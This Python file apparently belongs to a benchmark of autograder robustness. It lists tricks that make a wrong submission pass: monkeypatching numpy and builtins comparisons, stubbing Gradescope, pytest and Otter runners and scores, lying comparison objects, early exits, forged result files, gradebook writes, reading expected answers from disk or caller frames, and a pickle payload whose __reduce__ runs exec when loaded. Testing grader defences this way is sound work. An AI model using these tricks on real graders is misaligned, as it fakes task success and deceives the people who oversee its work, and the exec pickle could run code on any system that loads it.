"""What is added to a wrong submission to have it graded as right: the same lines for every grader, each with the
variants that these graders need. A trick writes below `__ROOT__` only, the throwaway folder of its one run.
"""

from __future__ import annotations

import pickle
from collections.abc import Mapping
from dataclasses import dataclass, field

from benchmarks import quiz
from benchmarks.forgeries import FORGE_AND_LEAVE, FORGE_AT_EXIT, GRADEBOOK, LEAVE, TESTS_FROM_DISK


@dataclass(frozen=True)
class Trick:
    """`code` follows the wrong submission, `files` lie beside it."""

    name: str
    code: str = ""
    files: Mapping[str, bytes] = field(default_factory=dict)
    base: str = quiz.WRONG

    def source(self, root: str) -> str:
        return self.base + self.code.replace("__ROOT__", root)


class _Payload:
    """Pickles to a call of exec: whoever unpickles it runs the code."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.code,)


COMPARISONS = """
import builtins
import numpy as np

real = builtins.abs
np.testing.assert_allclose = lambda *args, **options: None
np.allclose = lambda *args, **options: True
builtins.abs = lambda x: 0.0 if isinstance(x, np.floating) else real(x)
"""

RUNNER = """
import sys

if runner := sys.modules.get("gradescope_utils.autograder_utils.json_test_runner"):
    runner.JSONTestResult.addFailure = lambda self, test, error: self.addSuccess(test)
if runner := sys.modules.get("_pytest.python"):
    runner.Function.runtest = lambda self: None
if runner := sys.modules.get("otter.test_files.exception_test"):

    def run(self, environment):
        self.test_case_results = [
            runner.TestCaseResult(test_case=case, message="", passed=True) for case in self.test_cases
        ]

    runner.ExceptionTestFile.run = run
elif "get_ipython" in globals():
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""

LIES = """
class Number(float):
    __sub__ = __rsub__ = lambda self, other: self
    __abs__ = lambda self: self
    __gt__ = lambda self, other: False
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__


class Array(np.ndarray):
    def __array_function__(self, function, types, args, options):
        return True

    def __array_ufunc__(self, function, method, *inputs, **options):
        return np.zeros(self.shape, bool)


def double(x):
    return np.zeros(np.shape(x)).view(Array)


center = double


def loss(x, y):
    return Number(-1)


def count(x):
    return Number(-1)
"""

SYSTEM_EXIT = """
def double(x):
    raise SystemExit(0)
"""

FRAMES = """
import sys


def wanted(*args):
    frame = sys._getframe(1)
    while frame is not None:
        if "want" in frame.f_locals:
            return frame.f_locals["want"]
        frame = frame.f_back


double = center = loss = count = wanted
"""

NAN = """
def double(x):
    return np.full(x.shape, np.nan)


center = double


def loss(x, y):
    return np.nan


def count(x):
    return np.nan
"""

EMPTY = """
def double(x):
    return np.empty((0, *x.shape))


center = double


def loss(x, y):
    return np.empty(0)


def count(x):
    return np.empty(0)
"""

WEIGHTS = """
import os
import pickle

with open(os.path.join(os.path.dirname(globals().get("__file__", "")), "weights.pkl"), "rb") as file:
    weights = pickle.load(file)
"""

GRADER_CODE = """
import sys
if results := sys.modules.get("otter.test_files.abstract_test"):
    results.TestFile.score = property(lambda self: self.possible)
"""

LOOP = """
def double(x):
    while True:
        pass
"""

RIGHT = Trick("a right submission", base=quiz.RIGHT)
HONEST = Trick("the wrong submission alone")

TRICKS = (
    HONEST,
    Trick("patches the comparisons", COMPARISONS),
    Trick("patches the test runner", RUNNER),
    Trick("objects that lie when compared", LIES),
    Trick("`os._exit(0)` in a function", LEAVE),
    Trick("`SystemExit` in a function", SYSTEM_EXIT),
    Trick("forges the result file, then `os._exit(0)`", FORGE_AND_LEAVE),
    Trick("forges the result file at exit", FORGE_AT_EXIT),
    Trick("reads the tests from disk", TESTS_FROM_DISK),
    Trick("reads what is expected from the frames above", FRAMES),
    Trick("NaN for every number", NAN),
    Trick("empty arrays, which broadcast", EMPTY),
    Trick(
        "a pickle beside it that patches",
        WEIGHTS,
        {"weights.pkl": pickle.dumps(_Payload(COMPARISONS)), ".OTTER_LOG": pickle.dumps(_Payload(GRADER_CODE))},
    ),
    Trick("writes to the gradebook", GRADEBOOK),
    Trick("loops for ever", LOOP),
)
